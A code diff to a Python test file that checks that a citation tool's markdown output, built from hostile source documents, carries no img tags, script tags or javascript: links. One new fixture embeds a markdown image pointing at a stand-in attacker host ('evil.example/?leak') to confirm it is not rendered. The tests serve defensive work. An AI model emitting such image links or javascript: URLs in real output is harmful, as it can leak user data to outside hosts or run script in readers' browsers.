@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import json
+import re
 
 import pytest
+from markdown_it import MarkdownIt
 from tests.doubles import pipeline, statement
 
 from pincite import Document, verify
@@ -41,8 +43,17 @@ def test_markdown_of_a_hostile_source_has_no_tags_and_no_script_links() -> None:
     shown = pipeline(HOSTILE).ask(QUESTION).to("markdown")
     assert "<img" not in shown
     assert "<script" not in shown
-    assert "](javascript:" not in shown.replace("\\]", "")
+    rendered = MarkdownIt().render(shown)
+    assert "javascript" not in "".join(re.findall(r"(?:href|src)=\"[^\"]*", rendered))
+    assert "<img" not in rendered
     assert "<javascript:" not in shown
+
+
+def test_pictures_of_a_source_are_not_fetched() -> None:
+    document = Document("fees", "Tours cost 5 EUR per person ![x](https://evil.example/?leak) today.")
+    rendered = MarkdownIt().render(pipeline(document).ask(QUESTION).to("markdown"))
+    assert "5 EUR" in rendered
+    assert "<img" not in rendered
 
 
 def test_json_holds_offsets_into_the_plain_text_and_the_document() -> None:
